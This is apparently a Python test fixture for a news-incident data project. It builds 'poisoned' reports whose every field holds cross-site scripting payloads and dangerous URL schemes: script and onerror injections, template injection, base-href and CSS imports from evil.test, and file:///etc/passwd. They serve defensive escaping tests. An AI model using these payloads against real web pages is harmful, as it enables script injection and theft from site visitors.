"""Hostile and awkward reports, coded by hand."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from rashomon.claims import Report
from rashomon.ids import content_id, text_sha256
from rashomon.model import Claim, Document, Evidence, Mention, Source, Statement
from tests.store.made import report

CANARY = "globalThis.hit=1"
PAYLOADS = (
    f"<script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg onload={CANARY}>",
    f'"><img src=x onerror={CANARY}>',
    f"' onmouseover='{CANARY}' x='",
    f"javascript:{CANARY}//",
    f"</title><script>{CANARY}</script>",
    f"</textarea><svg/onload={CANARY}>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>",
    f"{{{{constructor.constructor('{CANARY}')()}}}}",
    f"${{{CANARY}}}",
    f"<a href='javascript:{CANARY}' autofocus onfocus={CANARY}>x</a>",
    "<base href='http://evil.test/'><script src=/x.js></script>",
    "<style>@import 'http://evil.test/x'</style><link rel=stylesheet href=http://evil.test/y>",
    f"--><script>{CANARY}</script><!--",
    f"data:text/html,<script>{CANARY}</script>",
    f"\u202e<img src=x onerror={CANARY}>\u2066",
)  # fmt: skip
SCHEMES = (
    f"javascript:{CANARY}", f"JaVaScRiPt:{CANARY}", f"\tjavascript:{CANARY}", f"java\nscript:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>", "file:///etc/passwd", "vbscript:x", "blob:http://evil.test/x",
    f"http://x.test/\" onclick=\"{CANARY}", "//evil.test/x", f"https:javascript:{CANARY}", "ftp://x.test/y",
)  # fmt: skip


def poisoned(number: int, payload: str, url: str) -> Report:
    """A report with a payload in every field that its publisher, or the words in it, can fill."""
    made = report(f"x{number}", killed=number + 1, day=f"{2000 + number}-01-01", lat=10.0 + number, lon=20.0)
    text = f"{payload} said {number} people died. {payload}"
    quote = text[: len(payload)]
    doc = Document(
        f"x{number} {payload}"[:80], text, text_sha256(text), payload, payload, "2024-01-31", url=url, language="en",
        byline=payload, wire=payload, dateline=payload,
    )  # fmt: skip
    mention = Mention(content_id(doc.sha256, 0, len(quote), quote), doc.id, 0, len(quote), quote)
    claims = (
        replace(made.incidents[0].claims[0], document=doc.id, evidence=Evidence(0, len(quote), quote),
                source=Source(payload, "unnamed", relayed_by=payload, chain=(payload,)), of=payload),
        claim(doc, "perpetrator", quote, payload, stance="accuses"),
        claim(doc, "weapon", quote, payload),
    )  # fmt: skip
    place = replace(made.incidents[0].place, name=payload, admin1=payload)
    incident = replace(
        made.incidents[0], id=mention.id, document=doc.id, label=f"Attack, {payload}", mentions=(mention,),
        claims=claims, place=place,
    )  # fmt: skip
    return Report(doc, (incident,), statements=(statement(doc, quote, payload, mention),))


def claim(doc: Document, role: Any, quote: str, value: str, **more: Any) -> Claim:
    """A claim of a value, by its words' first place in the text."""
    start = doc.text.index(quote)
    return Claim(
        id=content_id(doc.id, role, quote), document=doc.id, role=role, value=value, original_value=quote,
        source=more.pop("source", Source(value, "unnamed")), evidence=Evidence(start, start + len(quote), quote),
        **more,
    )  # fmt: skip


def statement(doc: Document, quote: str, name: str, about: Mention) -> Statement:
    """Somebody's threat."""
    return Statement(
        id=content_id(doc.id, "statement", quote), document=doc.id, act="threaten", speaker=name,
        speaker_kind="unnamed", addressee=name, evidence=Evidence(0, len(quote), quote), about=about.id,
    )  # fmt: skip
